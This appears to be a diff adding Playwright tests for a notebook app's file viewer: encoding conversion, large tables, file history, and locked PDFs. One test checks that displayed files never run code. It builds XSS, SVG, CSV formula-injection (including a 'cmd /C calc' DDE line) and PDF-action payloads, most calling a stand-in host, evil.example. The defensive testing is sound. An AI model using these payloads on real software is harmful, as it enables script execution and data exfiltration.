@@ -1,0 +1,193 @@
+import { readFileSync } from 'node:fs';
+import { AxeBuilder } from '@axe-core/playwright';
+import type { Page } from '@playwright/test';
+import { makePdf } from '../support/views/make-pdf.ts';
+import { openConsole } from './console.ts';
+import { expect, test } from './fixtures.ts';
+
+const encode = (text: string) => new TextEncoder().encode(text);
+
+async function openFiles(page: Page, rootUrl: string, files: Record<string, Uint8Array>): Promise<string> {
+  await openConsole(page, rootUrl);
+  const entries = Object.entries(files).map(([path, bytes]) => [path, [...bytes]] as const);
+  return page.evaluate(async (given) => {
+    const { notebookId } = await cloister.notebooks.create({ name: 'Views' });
+    for (const [path, bytes] of given) await cloister.files.write(notebookId, path, new Uint8Array(bytes));
+    return notebookId;
+  }, entries);
+}
+
+async function go(page: Page, notebookId: string, path: string): Promise<void> {
+  await page.evaluate((hash) => {
+    location.hash = hash;
+  }, `#/notebook/${notebookId}/file${path}`);
+  await expect(page.getByRole('article', { name: path })).toBeVisible();
+}
+
+const findings = async (page: Page) => {
+  const { violations } = await new AxeBuilder({ page }).analyze();
+  return violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`);
+};
+
+/** A text in UTF-16, with its mark. */
+function utf16(text: string): Uint8Array {
+  const view = new DataView(new ArrayBuffer(text.length * 2 + 2));
+  for (const [at, unit] of [0xfeff, ...Array.from(text, (letter) => letter.charCodeAt(0))].entries())
+    view.setUint16(at * 2, unit, true);
+  return new Uint8Array(view.buffer);
+}
+
+test('a text of another encoding is shown as such, unchanged, until it is converted, and that can be undone', async ({
+  page,
+  rootUrl,
+}) => {
+  const bytes = utf16('sample;mass\nB-114;2,51 µg\n');
+  const notebookId = await openFiles(page, rootUrl, { '/old.csv': bytes });
+  await go(page, notebookId, '/old.csv');
+  await expect(
+    page.getByText('This file is UTF-16 (little endian). It is shown as such and not changed.'),
+  ).toBeVisible();
+  await expect(page.getByRole('cell', { name: '2,51 µg' })).toBeVisible();
+  expect(await findings(page)).toEqual([]);
+  const stored = () => page.evaluate(async (id) => [...(await cloister.files.readBytes(id, '/old.csv'))], notebookId);
+  expect(await stored()).toEqual([...bytes]);
+  await page.getByRole('button', { name: 'Convert to UTF-8' }).click();
+  await expect(page.getByText('/old.csv is UTF-8 now.')).toBeVisible();
+  expect(await stored()).toEqual([...encode('sample;mass\nB-114;2,51 µg\n')]);
+  await page.getByRole('button', { name: 'Undo', exact: true }).click();
+  await expect(page.getByText('This file is UTF-16 (little endian).')).toBeVisible();
+  expect(await stored()).toEqual([...bytes]);
+});
+
+test('a file of 20 MB is shown as the table it is', async ({ page, rootUrl }) => {
+  await openConsole(page, rootUrl);
+  const notebookId = await page.evaluate(async () => {
+    const made = await cloister.notebooks.create({ name: 'Large' });
+    const rows = Array.from(
+      { length: 400_000 },
+      (_, n) => `${n};B-${n % 999};${(n / 7).toFixed(9)};a remark of some length`,
+    );
+    await cloister.files.write(made.notebookId, '/large.csv', `id;sample;mass;note\n${rows.join('\n')}\n`);
+    return made.notebookId;
+  });
+  await go(page, notebookId, '/large.csv');
+  await expect(page.getByText('400,000 rows, 4 columns')).toBeVisible({ timeout: 30_000 });
+  const area = page.getByRole('region', { name: 'Table /large.csv' });
+  await area.focus();
+  await page.keyboard.press('End');
+  await expect(page.getByRole('cell', { name: '399999', exact: true })).toBeVisible({ timeout: 30_000 });
+});
+
+test('the history of a file shows who made each version, what differs, and brings one back', async ({
+  page,
+  rootUrl,
+}) => {
+  const notebookId = await openFiles(page, rootUrl, { '/note.md': encode('first line\nsecond line\n') });
+  await page.evaluate(async (id) => {
+    await cloister.files.write(id, '/note.md', 'first line\nanother line\n');
+    await cloister.files.move(id, '/note.md', '/kept.md');
+  }, notebookId);
+  await go(page, notebookId, '/kept.md');
+  await page.getByRole('heading', { name: 'File history' }).click();
+  const list = page.getByRole('list', { name: 'Versions, newest first' });
+  await expect(list.getByRole('listitem')).toContainText([
+    /you moved it from \/note\.md to \/kept\.md.*Now/,
+    /you changed it/,
+    /you created it/,
+  ]);
+  await expect(page.getByText('Last written by')).toBeVisible();
+  const created = list.getByRole('listitem').last();
+  await created.getByRole('button', { name: /^Show/ }).click();
+  await created.getByRole('radio', { name: 'what it is now' }).check();
+  await expect(created.getByText('another line')).toBeVisible();
+  await expect(created.getByText('second line')).toBeVisible();
+  expect(await findings(page)).toEqual([]);
+  await created.getByRole('button', { name: /^Restore this version/ }).click();
+  await expect(page.getByText(/^\/kept\.md is again as it was at/)).toBeVisible();
+  expect(await page.evaluate((id) => cloister.files.read(id, '/kept.md'), notebookId)).toBe(
+    'first line\nsecond line\n',
+  );
+  await expect(list.getByRole('listitem').first()).toContainText('you went back to the version of');
+});
+
+test('what is shown never runs, asks nobody, and leads nowhere by itself', async ({ page, rootUrl, context }) => {
+  const script = "document.title='ran';fetch('https://evil.example/x');alert(1)";
+  const html = `<img src=https://evil.example/i onerror="${script}"><script>${script}</script><svg onload="${script}">`;
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="90" height="60" onload="${script}">
+    <rect width="40" height="40" fill="red"/><script>${script}</script><image x:href="https://evil.example/p.png" width="9" height="9"/>
+    <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/f"/></foreignObject></svg>`;
+  const uri = '<</Type/Annot/Subtype/Link/Rect[40 500 200 540]/A<</S/URI/URI(https://evil.example/link)>>>>';
+  const js = '/S/JavaScript/JS(app.launchURL\\("https://evil.example/js"\\);app.alert\\(1\\))';
+  const submit = `<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[40 400 200 440]/A<</S/SubmitForm/F(https://evil.example/form)>>/AA<</PO<<${js}>>>>>>`;
+  const launch = '<</Type/Annot/Subtype/Link/Rect[40 300 200 340]/A<</S/GoToR/F(https://evil.example/r.pdf)>>>>';
+  const catalog = `/OpenAction<<${js}>>/AA<</WC<<${js}>>>>/Names<</JavaScript<</Names[(a)<<${js}>>]>>>>`;
+  const files = {
+    '/a.svg': encode(svg),
+    '/b.csv': encode(
+      `name,value\n"${html.replaceAll('"', '""')}","=HYPERLINK(""https://evil.example/c"")"\n@SUM(1),+cmd|' /C calc'!A0\n`,
+    ),
+    '/c.json': encode(JSON.stringify({ [html]: html, __proto__x: { constructor: html } })),
+    '/d.pdf': makePdf([{ lines: ['A page with actions'], annotations: [uri, submit, launch] }], catalog),
+    '/e.html.bin': encode(html),
+    '/f.txt': utf16(html),
+  };
+  const notebookId = await openFiles(page, rootUrl, files);
+  const outside: string[] = [];
+  const dialogs: string[] = [];
+  const refused: string[] = [];
+  context.on('request', (request) => {
+    if (!request.url().startsWith(rootUrl) && !/^(?:blob|data):/.test(request.url())) outside.push(request.url());
+  });
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  page.on('framenavigated', (frame) => {
+    if (!frame.url().startsWith(rootUrl)) outside.push(frame.url());
+  });
+  context.on('page', (opened) => outside.push(opened.url()));
+  await page.exposeFunction('noteRefusal', (text: string) => refused.push(text));
+  await page.evaluate(() => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      Reflect.get(globalThis, 'noteRefusal')(`${event.effectiveDirective} ${event.blockedURI}`);
+    });
+  });
+
+  await go(page, notebookId, '/a.svg');
+  await expect(page.getByText('90 × 60 pixels')).toBeVisible();
+  await go(page, notebookId, '/b.csv');
+  await expect(page.getByRole('cell', { name: '=HYPERLINK("https://evil.example/c")' })).toBeVisible();
+  await go(page, notebookId, '/c.json');
+  await expect(page.getByRole('treeitem', { name: /onerror/ })).toBeVisible();
+  await go(page, notebookId, '/d.pdf');
+  await expect(page.getByText('A page with actions')).toBeAttached();
+  await expect(page.getByRole('link', { name: 'Leads to https://evil.example/link' })).toBeAttached();
+  await go(page, notebookId, '/e.html.bin');
+  await go(page, notebookId, '/f.txt');
+  await expect(page.getByText('<script>', { exact: false }).first()).toBeVisible();
+  await go(page, notebookId, '/a.svg');
+  await expect(page.getByText('90 × 60 pixels')).toBeVisible();
+
+  expect({ outside, dialogs, refused }).toEqual({ outside: [], dialogs: [], refused: [] });
+  expect(await page.title()).not.toBe('ran');
+  expect(await page.locator('article iframe, article object, article script, article svg[onload]').count()).toBe(0);
+
+  // What was looked for would have been seen.
+  await page.evaluate(() => {
+    new Image().src = 'https://evil.example/control';
+  });
+  await expect.poll(() => refused.length).toBeGreaterThan(0);
+  await go(page, notebookId, '/d.pdf');
+  await expect(page.getByText('A page with actions')).toBeAttached();
+  expect(await findings(page)).toEqual([]);
+});
+
+test('a locked PDF asks for its password and is drawn without anything from elsewhere', async ({ page, rootUrl }) => {
+  const locked = new Uint8Array(readFileSync(new URL('../fixtures/pdf/locked.pdf', import.meta.url)));
+  const notebookId = await openFiles(page, rootUrl, { '/locked.pdf': locked });
+  await go(page, notebookId, '/locked.pdf');
+  await page.getByLabel('Password').fill('cloister');
+  await page.keyboard.press('Enter');
+  await expect(page.getByText('Behind the door')).toBeAttached();
+  await expect(page.getByRole('region', { name: 'Page 1', exact: true }).locator('canvas')).toBeVisible();
+});
